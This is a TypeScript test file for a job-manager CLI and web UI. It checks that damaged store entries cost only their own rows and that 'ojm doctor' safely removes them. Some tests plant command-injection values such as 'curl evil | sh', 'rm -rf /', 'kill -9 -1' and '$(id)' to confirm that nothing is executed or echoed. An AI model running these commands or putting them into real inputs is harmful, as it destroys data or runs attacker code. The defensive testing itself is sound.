import { execFileSync } from "node:child_process";
import { existsSync, rmSync } from "node:fs";
import { join } from "node:path";
import { type Channel, type JobManager, type Key, openChannel, parseRunId } from "@ojm/core";
import type { Backend } from "@ojm/core/backend";
import { findType, identityOf } from "@ojm/core/internal";
import { followStore, snapshot } from "@ojm/schedule/operator";
import { folderWith } from "@ojm/testing/folder";
import { openUi, type Ui } from "@ojm/ui";
import { expect, onTestFinished, test } from "vitest";
import { openWith } from "../packages/alerts/src/open.js";
import { FakeReceiver } from "../packages/alerts/src/testing/receiver.js";
import { called } from "../packages/cli/src/testing/called.js";
import { scribble } from "../packages/core/src/testing/scribble.js";
import { collect } from "../packages/core/src/testing/settle.js";
import { writeHistory } from "./support/history.js";

/*
 * One damaged entry costs its own row and nothing else. Each test builds a store in which every kind of entry
 * belongs to a job whose name begins with "well", damages copies of one kind under other names in every way,
 * and then runs every query: each name that was in an answer before must still be in it.
 */

const CHANNELS = [
  "oJobManager-jobs",
  "oJobManager-locks",
  "oJobManager-schedules",
  "oJobManager-times",
  "oJobManager-logs",
  "oJobManager-turns",
  "oJobManager-alerts",
] as const;

type Json = string | number | boolean | null | readonly Json[] | { readonly [field: string]: Json };

interface Stored {
  readonly channel: string;
  readonly key: Key;
  readonly value: Json;
}

/** A store with every kind of entry. */
interface Well {
  readonly folder: string;
  readonly manager: JobManager;
  readonly ui: Ui;
  /** Writes a text that no channel would write, like a program that uses the store without ojm. */
  readonly scribble: (channel: string, key: Key, text: string) => Promise<void>;
}

async function healthy(): Promise<Well> {
  const folder = folderWith({});
  onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
  const file = join(folder, "ojm.db");
  const store = { type: "sqlite", args: { file } };
  const { manager, scheduler, close } = await writeHistory({ store, text: `sqlite:${file}`, prefix: "well" });
  const ui = openUi({ manager, scheduler, authorize: () => ({ user: "ana", role: "admin" }) });
  onTestFinished(async () => {
    await ui.close();
    await close();
  });
  return { folder, manager, ui, scribble: await scribbler(folder) };
}

async function scribbler(folder: string): Promise<Well["scribble"]> {
  let way: Backend | undefined;
  const sqlite = await findType("sqlite");
  const open: typeof sqlite.open = async (args, context) => {
    way = await sqlite.open(args, context);
    return way;
  };
  const backend = { type: "scribbled", open };
  return async (name, key, text) => {
    const channel = await openChannel(name, { backend, args: { file: `${folder}/ojm.db` } });
    await scribble({ way, channel } as never, key, text);
    await channel.close();
  };
}

const channelOf = (manager: JobManager, name: string): Promise<Channel<unknown>> => manager.channel<unknown>(name);

async function entriesOf(manager: JobManager): Promise<Stored[]> {
  const found: Stored[] = [];
  for (const channel of CHANNELS)
    for await (const { key, value } of (await channelOf(manager, channel)).entries())
      found.push({ channel, key, value: value as Json });
  return found;
}

/** Which kind of entry a key is of. */
function kindOf({ channel, key }: Pick<Stored, "channel" | "key">): string {
  const of = channel.replace("oJobManager-", "");
  if (Array.isArray(key)) {
    const [kind, , part] = key as readonly (string | number)[];
    if (of === "logs") return part === "progress" ? "logs progress" : "logs chunk";
    if (typeof kind === "number") return `${of} by time`;
    const more = typeof part === "string" && ["queue", "call", "stop"].includes(part) ? ` ${part}` : "";
    const isPart = kind === "member" && part !== undefined ? " part" : "";
    return `${of} ${kind}${more}${isPart}`;
  }
  return typeof key === "object" ? `${of} entry` : `${of} ${String(key)}`;
}

/** A placeholder for a text that cannot be decoded. */
const NOT_JSON = Symbol("a text that is not JSON");

const FEW: readonly Json[] = [null, 0, "x", {}];
const MANY: readonly Json[] = [...FEW, [], true, -1, 1e300, [null], { a: { b: null } }];

/** The kinds that have a single entry, or an entry without a name. */
const SINGLE: ReadonlySet<string> = new Set([
  ...["alerts rule", "alerts turn", "locks sweep", "times filled", "times fold"],
  ...["turns indexed", "turns look", "turns orphans", "turns retained", "turns retention", "turns rollups"],
  "turns seen",
]);

/** A value in many damaged forms: as a whole, and field by field. */
function damages(value: Json, others: readonly Json[], depth: number): Json[] {
  const inner: Json[] = [];
  if (depth > 0 && typeof value === "object" && value !== null) {
    const isList = Array.isArray(value);
    for (const [field, item] of Object.entries(value)) {
      const rest = Object.entries(value).filter(([other]) => other !== field);
      if (!isList) inner.push(Object.fromEntries(rest));
      for (const damaged of damages(item as Json, others.slice(0, 3), depth - 1)) {
        const list = isList ? value.map((one: Json, i: number) => (String(i) === field ? damaged : one)) : [];
        inner.push(isList ? list : { ...value, [field]: damaged });
      }
    }
  }
  return [...others, ...inner];
}

/** The same with the names of the jobs, and the ids of the sessions, replaced. */
function renamed<T>(value: T, from: string, to: string): T {
  return JSON.parse(JSON.stringify(value).replaceAll(from, to)) as T;
}

/** The parts that name an entry, so that a copy can be written beside it. */
function ownName({ key }: Stored): string | undefined {
  const parts: readonly unknown[] = Array.isArray(key) ? key : typeof key === "object" ? Object.values(key) : [];
  const isPlain = parts.find((part) => typeof part === "string" && part.startsWith("well-"));
  if (isPlain !== undefined) return isPlain as string;
  return ["session", "member"].includes(String(parts[0])) ? String(parts[1]) : undefined;
}

const COMMANDS: readonly (readonly string[])[] = [
  ["ps"],
  ["jobs"],
  ["next"],
  ["next", "well-timed"],
  ["why", "well-running"],
  ["why", "well-done"],
  ["why", "well-timed"],
  ["why", "well-tried"],
  ["doctor"],
  ["locks", "well-running"],
  ["locks", "well-held"],
  ["locks"],
  ["runs", "-n", "10000"],
  ["runs", "--failed", "-n", "10000"],
  ["runs", "--by-name", "-n", "10000"],
  ["ticks", "well-timed"],
  ["audit", "well-held"],
  ["logs", "well-done"],
  ["show", "well-failed"],
];

const PATHS = [
  "now",
  "timeline?q=well",
  "jobs?q=well",
  "jobs/well-timed",
  "jobs/well-running/why",
  "runs?name=well-done",
];
const MORE_PATHS = ["runs/RUN", "runs/RUN/log", "locks", "zones", "audit?name=well-held"];

/** The part of an answer about the healthy jobs. */
function wellIn(text: string): Set<string> {
  return new Set(text.match(/well[- ][a-z]+/g));
}

/** Every query, with the part of its answer about the healthy jobs. */
async function ask({ folder, manager, ui }: Well, run: string): Promise<Map<string, Set<string>>> {
  const answers = new Map<string, Set<string>>();
  for (const words of COMMANDS) {
    for (const json of [[], ["--json"]]) {
      const { code, out, err } = await called(folder, [...words, "--store", "sqlite:ojm.db", ...json]);
      const what = `ojm ${[...words, ...json].join(" ")}`;
      // The findings of doctor set its exit code.
      if (code !== 0 && !(words[0] === "doctor" && code === 1)) throw new Error(`${what} ended with ${code}: ${err}`);
      // Below the held locks, it shows only those of the last runs.
      const held = /^ojm locks( --json)?$/.test(what) ? ["well-running", "well-held"] : undefined;
      const names = wellIn(out);
      answers.set(what, held === undefined ? names : new Set(held.filter((name) => names.has(name))));
    }
  }
  for (const path of [...PATHS, ...MORE_PATHS].map((one) => one.replace("RUN", encodeURIComponent(run)))) {
    const headers = { Host: "localhost:7717" };
    const answer = await ui.fetch(new Request(`http://localhost:7717/api/v1/${path}`, { headers }));
    const text = await answer.text();
    if (!answer.ok) throw new Error(`GET ${path} answered ${answer.status}: ${text}`);
    answers.set(`GET ${path}`, wellIn(text));
  }
  const names = (found: readonly { readonly name: string }[]): Set<string> => wellIn(JSON.stringify(found));
  answers.set("long alerts", await longAlerts(manager));
  answers.set("running()", names(await manager.openRecords()));
  answers.set("failing()", names(await manager.failedJobs()));
  answers.set("retries()", names(await manager.retries()));
  const to = Date.now() + 1;
  answers.set("rollups()", names((await manager.rollups({ from: to - 3_600_000, to, by: "minute" })).jobs));
  const live = await manager.followRuns();
  await live.ready;
  answers.set("live().runs()", names(live.runs()));
  answers.set("live().waiting()", wellIn([...live.waiting().keys()].join()));
  live.close();
  const closing = new AbortController();
  // It keeps waiting for a store that cannot be followed.
  const signal = AbortSignal.any([closing.signal, AbortSignal.timeout(20_000)]);
  const followed = followStore(manager, { signal });
  await followed.ready;
  for (const [what, found] of [
    ["snapshot()", await snapshot(manager)],
    ["followStore()", await followed.fresh()],
  ] as const) {
    answers.set(`problems of ${what}`, names(found.problems));
    answers.set(`runs of ${what}`, names(found.runs));
    answers.set(`retries of ${what}`, names(found.retries));
    answers.set(`schedules of ${what}`, names(found.schedules.map(({ schedule }) => schedule)));
    answers.set(
      `schedulers of ${what}`,
      wellIn(found.schedulers.flatMap(({ schedules }) => [...schedules.keys()]).join()),
    );
    answers.set(`holds of ${what}`, wellIn([...found.holds.keys()].join()));
  }
  closing.abort();
  return answers;
}

/** The answers that list problems. */
const PROBLEMS = ["ojm doctor", "ojm doctor --json", "problems of snapshot()", "problems of followStore()"];

/**
 * The same, while the scheduler is heard. If this process stands still for 15 s, its schedules are among the
 * problems, but only until it runs again.
 */
async function askInPeace(well: Well, run: string): Promise<Map<string, Set<string>>> {
  for (let rest = 5; ; rest--) {
    const answers = await ask(well, run);
    if (rest === 0 || !PROBLEMS.some((what) => answers.get(what)?.has("well-busy"))) return answers;
  }
}

let rules = 0;

/** Whether a new rule on `long` still finds the run that is long, beside a rule that has a state. */
async function longAlerts(manager: JobManager): Promise<Set<string>> {
  const receiver = new FakeReceiver();
  const fresh = `fresh-${++rules}`;
  const rule = { on: ["long"], longer: 1, to: { webhook: "https://example.com/hook" } } as const;
  await using _ = await openWith(
    manager,
    {
      rules: [
        { ...rule, id: "well-rule" },
        { ...rule, id: fresh },
      ],
    },
    receiver.send,
  );
  const isTold = (): boolean => receiver.taken.some((one) => one.rule === fresh && one.name === "well-running");
  await expect.poll(isTold, { message: "a long run is reported" }).toBe(true);
  return new Set(["well-running"]);
}

const KINDS = [
  "alerts gate",
  "alerts outbox",
  "alerts rule",
  "alerts turn",
  "jobs entry",
  "locks audit",
  "locks exec",
  "locks exec-refused",
  "locks lock",
  "locks lock queue",
  "locks once",
  "locks retry",
  "locks session",
  "locks session call",
  "locks session stop",
  "locks sweep",
  "locks tick",
  "logs chunk",
  "logs progress",
  "schedules cursor",
  "schedules member",
  "schedules member part",
  "schedules removed",
  "schedules request",
  "schedules schedule",
  "schedules tick",
  "schedules unrun",
  "times by time",
  "times day",
  "times error",
  "times failed",
  "times filled",
  "times fold",
  "times hour",
  "times open",
  "turns indexed",
  "turns look",
  "turns orphans",
  "turns retained",
  "turns retention",
  "turns rollups",
  "turns seen",
];

test("the store of these tests has entries of every kind", async () => {
  const { manager } = await healthy();
  expect([...new Set((await entriesOf(manager)).map(kindOf))].sort()).toEqual(KINDS);
});

// All at once in a few ways, which reveals a list that one entry hides, and each alone in many ways.
const timeout = 600_000;
test("damaged entries (all kinds) cost their own rows and nothing else", { timeout }, () =>
  damageAndAsk(KINDS, [null, {}], [null]),
);
test.each(KINDS)("damaged entries (%s) cost their own rows and nothing else", { timeout, tags: ["full"] }, (kind) =>
  damageAndAsk([kind], MANY, [...FEW, NOT_JSON]),
);

/** `single` are the values for the kinds that have a single entry. */
async function damageAndAsk(
  kinds: readonly string[],
  many: readonly Json[],
  single: readonly (Json | typeof NOT_JSON)[],
): Promise<void> {
  const well = await healthy();
  const { manager } = well;
  const all = await entriesOf(manager);
  const run = (await collect(manager.history({ name: "well-done" })))[0]?.id ?? "";
  expect(parseRunId(run)).toBeDefined();
  const before = await askInPeace(well, run);
  const check = async (damage: string): Promise<void> => {
    const after = await askInPeace(well, run).catch((error: Error) => {
      throw new Error(`${damage}: ${error.message}`, { cause: error });
    });
    for (const [what, names] of before) {
      const lost = [...names].filter((name) => !after.get(what)?.has(name));
      expect(lost, `${damage}: ${what} lacks rows`).toEqual([]);
    }
  };
  const write = async ({ channel, key }: Pick<Stored, "channel" | "key">, value: Json | typeof NOT_JSON) => {
    if (value === NOT_JSON) await well.scribble(channel, key, "{ not JSON");
    else await (await channelOf(manager, channel)).set(key, value);
  };
  let count = 0;
  const singles: Stored[] = [];
  for (const stored of all.filter((one) => kinds.includes(kindOf(one)))) {
    const own = ownName(stored);
    if (own === undefined) {
      // Others belong to the runs of the alerts themselves, for example.
      if (SINGLE.has(kindOf(stored))) singles.push(stored);
      continue;
    }
    for (const value of [...damages(stored.value, many, 2), NOT_JSON] as const) {
      const name = `hurt-${++count}`;
      const damaged = value === NOT_JSON ? value : renamed(value, own, name);
      await write({ channel: stored.channel, key: renamed(stored.key, own, name) }, damaged);
    }
  }
  await check(`${count} entries of the kinds "${kinds}"`);
  for (const value of singles.length === 0 ? [] : single) {
    for (const stored of singles) await write(stored, value);
    await check(`each of "${kinds}" is ${value === NOT_JSON ? "not JSON" : JSON.stringify(value)}`);
  }
}

test("ojm doctor names damaged entries of any name, and its command removes them and nothing else", async () => {
  const { folder, manager, scribble } = await healthy();
  const words = ["doctor", "--store", "sqlite:ojm.db"];
  const odd = `it's "odd" $(touch ${folder}/obeyed) \u001b[2J\n  \u202e\u009b ; kill -9 -1`;
  const locks = manager.channels.locks as Channel<unknown>;
  const [schedules, logs, times, turns, alerts] = (await Promise.all(
    ["schedules", "logs", "times", "turns", "alerts"].map((name) => channelOf(manager, `oJobManager-${name}`)),
  )) as [Channel<unknown>, Channel<unknown>, Channel<unknown>, Channel<unknown>, Channel<unknown>];
  const planted: [Channel<unknown>, Key][] = [
    [locks, ["lock", odd]],
    [locks, ["lock", "plain"]],
    [locks, ["exec", odd]],
    [locks, ["exec-refused", odd]],
    [locks, ["retry", odd, "chain"]],
    [locks, ["audit", odd, 5, "x"]],
    [manager.channels.jobs as Channel<unknown>, { name: odd, startTime: 5 }],
    [schedules, ["schedule", odd]],
    [schedules, ["cursor", odd]],
    [schedules, ["tick", odd, 5]],
    [logs, [odd, 5, 0]],
    [logs, [odd, 5, "progress"]],
    [times, ["day", 0, odd]],
    [times, ["hour", 0, odd]],
    [times, ["error", 5, odd]],
    [alerts, ["rule", odd]],
    [alerts, ["outbox", odd, 5]],
    [alerts, ["gate", odd]],
    [alerts, ["turn", odd]],
  ];
  const damaged = async (): Promise<readonly { readonly text: string; readonly help?: string }[]> => {
    const { out } = await called(folder, [...words, "--json"]);
    const found = JSON.parse(out) as readonly { check: string; state: string; text: string; help?: string }[];
    return found.filter(({ check, state }) => check === "entries" && state !== "ok");
  };
  expect(await damaged()).toEqual([]);
  const before = await entriesOf(manager);
  for (const [channel, key] of planted) await channel.set(key, channel === schedules ? { definition: {} } : null);
  const found = await damaged();
  expect(found.length).toBe(planted.length);
  // A damaged lock is held: no other process may take it.
  const locked = manager.start("plain", { wait: 0 });
  await expect(locked).rejects.toMatchObject({ code: "CORRUPT", message: expect.stringContaining("ojm doctor") });
  // In the printed form, even on a narrow terminal.
  const { out } = await called(folder, words);
  for (const { help = "" } of found) {
    const [, command = ""] = /ojm doctor --remove (.*)$/.exec(help) ?? [];
    expect(out).toContain(command);
    const word = execFileSync("sh", ["-c", `printf %s ${command}`], { cwd: folder, encoding: "utf8" });
    const removed = await called(folder, [...words, "--remove", word]);
    expect(removed).toMatchObject({ code: 0, out: expect.stringContaining("removed the entry") });
    expect((await called(folder, [...words, "--remove", word])).code).toBe(3);
  }
  expect(existsSync(`${folder}/obeyed`)).toBe(false);
  expect(await damaged()).toEqual([]);
  const keys = (stored: readonly Stored[]): string[] =>
    stored.filter((one) => !kindOf(one).startsWith("locks audit")).map(({ key }) => JSON.stringify(key));
  expect(keys(await entriesOf(manager))).toEqual(expect.arrayContaining(keys(before)));
  await (await manager.start("plain", { wait: 0 })).end();
  const audit = await collect(manager.audit({ name: "plain" }));
  expect(audit).toMatchObject([{ action: "remove-damaged", author: expect.stringContaining("@") }]);
  // It must not remove intact entries.
  const well = JSON.stringify(["oJobManager-locks", ["lock", "well-running"]]);
  const refused = await called(folder, [...words, "--remove", well]);
  expect(refused).toMatchObject({ code: 2, err: expect.stringContaining("is not damaged: nothing was done") });
  expect((await manager.heldLocks()).map(({ name }) => name)).toContain("well-running");
  // These kinds have a single entry, which a process may write again at any time.
  const single: [Channel<unknown>, Key][] = [
    [locks, ["sweep"]],
    [turns, "look"],
    [turns, ["orphans"]],
    [turns, ["rollups"]],
    [turns, "seen"],
    [times, "filled"],
    [times, "fold"],
  ];
  for (const [channel, key] of single) {
    const word = JSON.stringify([channel.name, key]);
    const named = async (): Promise<readonly string[]> => {
      await scribble(channel.name, key, "{ not JSON");
      return (await damaged()).map(({ text }) => text);
    };
    await expect.poll(named).toEqual([expect.stringContaining(`the entry ${word} is damaged`)]);
    const remove = async (): Promise<number | null> => {
      await scribble(channel.name, key, "{ not JSON");
      return (await called(folder, [...words, "--remove", word])).code;
    };
    await expect.poll(remove).toBe(0);
  }
});

test("a forged note of ojm exec makes no command print a pid or a text that a shell would obey", async () => {
  const { folder, manager, ui } = await healthy();
  const locks = manager.channels.locks as Channel<unknown>;
  const evil = "h; curl evil | sh";
  const elsewhere = { host: "other-host", boot: "b", namespace: "n", started: "1" };
  const notes = [
    { ...elsewhere, pid: 1 },
    { ...elsewhere, pid: 0 },
    { ...elsewhere, pid: -7 },
    { ...elsewhere, pid: "7; rm -rf /" },
    { ...elsewhere, pid: 1.5 },
    { ...elsewhere, pid: 77, host: evil },
    { ...elsewhere, pid: 77, host: "$(id)" },
    { ...identityOf(process.pid), pid: 1 },
  ];
  for (const [i, note] of notes.entries()) {
    const run = `forged-${i}@${new Date(5).toISOString()}`;
    await locks.set(["exec", `forged-${i}`], { ...note, run });
    // And an entry under the name of another job.
    await locks.set(["exec", `other-${i}`], { ...elsewhere, pid: 77, run });
  }
  await locks.set(["exec", "real"], { ...elsewhere, pid: 77, run: `real@${new Date(5).toISOString()}` });
  let said = "";
  for (const words of [["doctor"], ["ps"], ["why", "real"], ["locks"], ["jobs"]]) {
    const { out, err } = await called(folder, [...words, "--store", "sqlite:ojm.db"]);
    said += out + err;
  }
  const headers = { Host: "localhost:7717" };
  said += await (await ui.fetch(new Request("http://localhost:7717/api/v1/now", { headers }))).text();
  expect(said).toContain("ps -o pid,etime,args -p 77");
  expect(said).not.toMatch(/kill -TERM -- -?[01-]?\b(?!\d)|-p [01]\b|-- --/);
  expect(said).not.toContain("curl evil");
  expect(said).not.toMatch(/on \$\(id\)/);
});

test("a record whose name begins like those of ojm itself is hidden nowhere, and those of ojm are", async () => {
  const { folder, manager, ui } = await healthy();
  const [done] = await collect(manager.history({ name: "well-failed" }));
  for (const name of ["ojm evil", "ojm alerts"]) {
    const at = { name, startTime: Date.now() };
    const record = { ...done, ...at, id: `${name}@${new Date(at.startTime).toISOString()}` };
    await (manager.channels.jobs as Channel<unknown>).set(at, record);
    await (await channelOf(manager, "oJobManager-times")).set([at.startTime, name], 0);
  }
  for (const words of [["runs"], ["runs", "--by-name"], ["jobs"]]) {
    const { out } = await called(folder, [...words, "--store", "sqlite:ojm.db"]);
    expect(out).toContain("ojm evil");
    expect(out).not.toContain("ojm alerts");
  }
  for (const path of ["jobs", "runs"]) {
    const headers = { Host: "localhost:7717" };
    const answer = await ui.fetch(new Request(`http://localhost:7717/api/v1/${path}`, { headers }));
    const text = await answer.text();
    expect(text).toContain("ojm evil");
    expect(text).not.toContain("ojm alerts");
  }
});
